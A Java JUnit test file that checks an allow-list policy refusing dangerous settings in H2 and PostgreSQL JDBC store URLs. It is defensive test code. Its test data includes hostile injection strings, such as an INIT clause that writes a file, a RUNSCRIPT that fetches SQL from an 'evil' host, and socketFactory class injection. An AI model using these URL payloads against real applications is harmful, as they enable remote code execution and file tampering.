package org.estimator4j.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 13, point 1: a store URL is a program; only allow-listed settings reach JDBC. */
class StoreUrlPolicyTest {
    @TempDir
    Path dir;

    @Test
    void anInitThatWouldWriteAFileIsRefusedBeforeH2SeesIt() {
        Path marker = dir.resolve("marker");
        String url = "jdbc:h2:file:" + dir.resolve("s") + ";INIT=CALL FILE_WRITE('owned', '" + marker + "')";
        StoreException e = assertThrows(StoreException.class, () -> ExperimentStore.open(url));
        assertTrue(e.getMessage().contains("has the setting INIT, which is not allowed"), e.getMessage());
        assertTrue(e.getMessage().contains("; remove INIT from the store URL; allowed H2 settings: "), e.getMessage());
        assertFalse(Files.exists(marker), "INIT ran");
        assertFalse(Files.exists(dir.resolve("s.mv.db")), "the store was opened");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:file:/x/s;TRACE_LEVEL_FILE=3;TRACE_FILE=/etc/x | TRACE_LEVEL_FILE",
                "jdbc:h2:file:/x/s;AUTO_SERVER=TRUE;init=RUNSCRIPT FROM 'http://evil/x.sql' | INIT",
                "jdbc:h2:/x/s;IGNORE_UNKNOWN_SETTINGS=TRUE | IGNORE_UNKNOWN_SETTINGS",
                "jdbc:h2:file:/x/s;MODE=PostgreSQL\\;INIT=x | MODE",
                "jdbc:h2:file:/x/s;RECOVER=1 | RECOVER",
                "jdbc:h2:tcp://evil/x | remote H2 server",
                "jdbc:h2:ssl://evil/x | remote H2 server",
                "jdbc:h2:zip:/x/s.zip!/s | 'zip:' file system",
                "jdbc:h2:file:split:/x/s | 'split:' file system",
                "jdbc:postgresql://db/e4j?user=me&socketFactory=org.example.Evil | socketFactory",
                "jdbc:postgresql://db/e4j?sslfactory=org.example.Evil | sslfactory",
                "jdbc:postgresql://db/e4j?%73ocketFactory=x | socketFactory",
                "jdbc:postgresql://db/e4j?authenticationPluginClassName=x | authenticationPluginClassName",
                "jdbc:sqlite:/x/s | unsupported store URL",
                "/x/s;INIT=CALL 1 | contains ';'",
            })
    void refusedNamingTheSetting(String url, String named) {
        StoreException e = assertThrows(StoreException.class, () -> StoreLocation.normalize(url));
        assertTrue(e.getMessage().contains(named), e.getMessage());
        assertEquals(1, e.getMessage().lines().count(), e.getMessage());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/x/s;AUTO_SERVER=FALSE",
                "jdbc:h2:file:/x/s;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH",
                "jdbc:h2:file:/x/s;user=sa;password=a'b\"c d",
                "jdbc:h2:~/s;LOCK_TIMEOUT=5000",
                "jdbc:h2:mem:t",
                "jdbc:postgresql://db:5432/e4j?user=me&password=p%26w&sslmode=verify-full&currentSchema=x",
                "jdbc:postgresql:e4j",
                "/x/s.mv.db",
            })
    void allowed(String url) {
        String normalized = StoreLocation.normalize(url);
        assertTrue(normalized.startsWith("jdbc:"), normalized);
    }

    @Test
    void theRefusalSaysWhereTheUrlCameFrom() {
        String hostile = "jdbc:h2:file:/x/s;INIT=CALL 1";
        assertTrue(assertThrows(StoreException.class, () -> StoreLocation.resolve(hostile, null, Map.of()))
                .getMessage()
                .startsWith("--store: the store URL"));
        assertTrue(assertThrows(StoreException.class, () -> StoreLocation.resolve(null, hostile, Map.of()))
                .getMessage()
                .startsWith("the config's 'store': the store URL"));
        assertTrue(assertThrows(
                        StoreException.class,
                        () -> StoreLocation.resolve(null, null, Map.of(StoreLocation.ENV, hostile)))
                .getMessage()
                .startsWith("E4J_STORE: the store URL"));
    }
}
